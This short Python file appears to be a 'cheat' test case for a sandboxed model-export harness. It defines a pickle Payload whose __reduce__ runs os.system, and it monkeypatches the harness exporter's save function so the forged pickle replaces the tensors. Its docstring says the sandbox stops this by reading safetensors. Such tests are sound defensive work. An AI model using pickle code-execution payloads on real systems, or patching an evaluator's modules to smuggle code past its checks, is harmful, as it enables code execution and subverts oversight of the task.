"""Cheat: hand over a pickle that runs code, in the place of the tensors.

Stopped because tensors are read as safetensors, a format without code.
"""

import json
import os
import pickle
import sys
from pathlib import Path

import torch
from torch import nn

PROFILE = json.loads((Path(__file__).parent / "profile.json").read_text(encoding="utf-8"))


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.embedding = nn.Embedding(PROFILE["vocabulary"], 64)
        self.head = nn.Linear(64, PROFILE["vocabulary"])

    def forward(self, tokens):
        x = self.embedding(tokens)
        return self.head(x)


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/payload",)


def forged(tensors):
    return pickle.dumps({name: Payload() for name in tensors})


if "restricted_mlm.sandboxed.exporter" in sys.modules:
    sys.modules["restricted_mlm.sandboxed.exporter"].save = forged


def get_trained_model():
    return Model()
